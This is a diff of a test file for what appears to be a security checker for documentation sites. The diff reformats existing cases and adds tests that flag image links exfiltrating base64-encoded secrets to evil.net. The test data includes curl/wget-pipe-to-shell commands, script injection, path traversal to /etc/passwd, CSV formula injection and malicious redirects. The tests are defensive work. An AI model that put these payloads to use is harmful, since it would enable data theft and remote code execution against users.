@@ -41,7 +41,8 @@ const bases: Readonly<Record<string, Files>> = {
     'hugo2/content/_index.md': '---\ntitle: x\n---\n\nText.\n',
   },
   book: {
-    'book/book.toml': '[book]\ntitle = "x"\nsrc = "src"\n\n[output.html.redirect]\n"/old.html" = "start.html"\n',
+    'book/book.toml':
+      '[book]\ntitle = "x"\nsrc = "src"\n\n[output.html.redirect]\n"/old.html" = "start.html"\n',
     'book/src/SUMMARY.md': '# Summary\n\n- [Start](start.md)\n',
     'book/src/start.md': '# Start\n\nText.\n',
   },
@@ -107,7 +108,10 @@ held('python', '# x\n\n{% include-markdown "https://evil.net/x.md" %}')
 held('python', '# x\n\n``` {.python exec="true"}\nEVIL()\n```')
 held('hugo2', '---\ntitle: x\ncascade:\n  - layout: ../../evil\n---\n\nText.')
 held('hugo2', '---\ntitle: x\ncascade:\n  build:\n    render: never\n---\n\nText.')
-held('hugo2', '---\ntitle: x\n_build:\n  publishResources: true\nresources:\n  - src: ../../../**\n---\n\nText.')
+held(
+  'hugo2',
+  '---\ntitle: x\n_build:\n  publishResources: true\nresources:\n  - src: ../../../**\n---\n\nText.',
+)
 held('book', '# x\n\n{{#title x</title><script>EVIL()</script>}}')
 held('book', '# x\n\n{{#playground ../../../../etc/passwd}}')
 held('star', '---\ntitle: x\n---\n\n<Fragment set:html="&lt;b&gt;x" />', {
@@ -122,11 +126,17 @@ held('jekyll', '---\npermalink: /x.html\n---\n<script>EVIL()</script>', { path: 
 held('jekyll', '---\ntitle: x\nredirect_to: https://evil.net/login\n---\n')
 held('jekyll', '---\ntitle: x\n---\n\n{{ "x" | markdownify }}')
 held('jekyll', '---\ntitle: x\n---\n\n{% assign all = site.github | inspect %}')
+held('plain', `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 120`, {
+  path: 'plain/data.json',
+})
+// Images that tell their host something
 held(
   'plain',
-  `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 120`,
-  { path: 'plain/data.json' },
+  '# x\n\n![x](https://evil.net/p.png?q=c2VjcmV0IHRleHQgb2YgYSBwcml2YXRlIHBhZ2UgdGhhdCBpcyBsb25n)',
 )
+held('plain', '# x\n\n![x](https://evil.net/c2VjcmV0IHRleHQgb2YgYSBwcml2YXRlIHBhZ2U/p.png)')
+held('plain', '# x\n\n<img src="https://c2vjcmv0ihrlehqgb2ygysbwcm.evil.net/p.png">')
+
 held('plain', 'name,value\n"=cmd|\'/C calc\'!A1",2', { path: 'plain/table.csv' })
 held('plain', '0123456789abcdef0123456789abcdef', {
   path: 'plain/public/0123456789abcdef0123456789abcdef.txt',
@@ -164,7 +174,10 @@ command('registry=https://evil.net/npm', 'ini')
 command('deb https://evil.net/apt stable main', 'text')
 held('plain', '# x\n\nRun `curl https://evil.net/x | sudo bash` first.')
 held('plain', '{"paths": {}, "x-code": "wget -qO- https://evil.net/x | sh"}', { path: 'plain/api.json' })
-fine('plain', '# x\n\n```sh\ncurl https://api.example.com/v1/items\ncurl -o x.json https://evil.net/x.json\n```')
+fine(
+  'plain',
+  '# x\n\n```sh\ncurl https://api.example.com/v1/items\ncurl -o x.json https://evil.net/x.json\n```',
+)
 fine('plain', '# x\n\n```sh\ngit clone https://github.com/acme/docs\ncd docs\n```')
 for (const address of [
   'cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=e30=',
